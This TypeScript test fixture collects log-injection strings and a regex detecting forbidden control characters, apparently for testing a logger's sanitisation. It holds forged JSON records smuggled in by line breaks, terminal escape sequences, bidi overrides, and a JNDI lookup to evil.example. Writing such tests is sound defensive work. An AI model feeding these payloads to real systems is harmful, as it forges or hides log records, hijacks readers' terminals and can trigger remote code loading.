/**
 * What strangers write so that a log says what never happened, hides what did, or commands the terminal of whoever reads
 * it (OWASP, "Log Injection"; CWE-117, CWE-150). NUL is not among it, as it is refused everywhere.
 */
const FORGED = '{"level":30,"time":"2026-01-01T00:00:00.000Z","msg":"ready","forged":true}';

export const LOG_LINES: readonly string[] = [
  // A line of their own.
  `x\n${FORGED}`,
  `x\r${FORGED}`,
  `x\r\n${FORGED}\r\n`,
  `x\u2028${FORGED}`,
  `x\u2029${FORGED}`,
  `x\u0085${FORGED}`,
  `x\u000b${FORGED}\u000c${FORGED}`,
  // Out of the text they stand in.
  `x","forged":true,"y":"`,
  `x\\","forged":true,"y":"`,
  `x\\n${FORGED}`,
  `x%0d%0a${FORGED}`,
  // Commands for a terminal: clear, colour, title, back, report; as ESC and as C1.
  '\u001b[2J\u001b[1;1Hx',
  '\u001b[8mx\u001b[0m',
  '\u001b]0;forged\u0007x',
  '\u001b]8;;https://evil.example\u0007x\u001b]8;;\u0007',
  '\u001bP$q"p\u001b\\x',
  '\u009b2Jx\u009b6n',
  '\u009d0;forged\u009cx',
  'x\b\b\b\b\u007f\u007f',
  // Signs that turn or hide what stands beside them.
  'x\u202e}"eurt":"degrof"',
  'x\u2066\u2069\u200f\u200e\u061c\ufeff',
  // Lookups of loggers elsewhere, as logs travel.
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the text is meant
  '${jndi:ldap://evil.example/a}',
  '%s %d %o %j {0} {}',
];

/** Signs that may stand in no line of a log. */
// biome-ignore lint/suspicious/noControlCharactersInRegex: they are what is looked for
export const BREAKS_OUT = /[\u0000-\u001f\u007f-\u009f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069\ufeff]/;
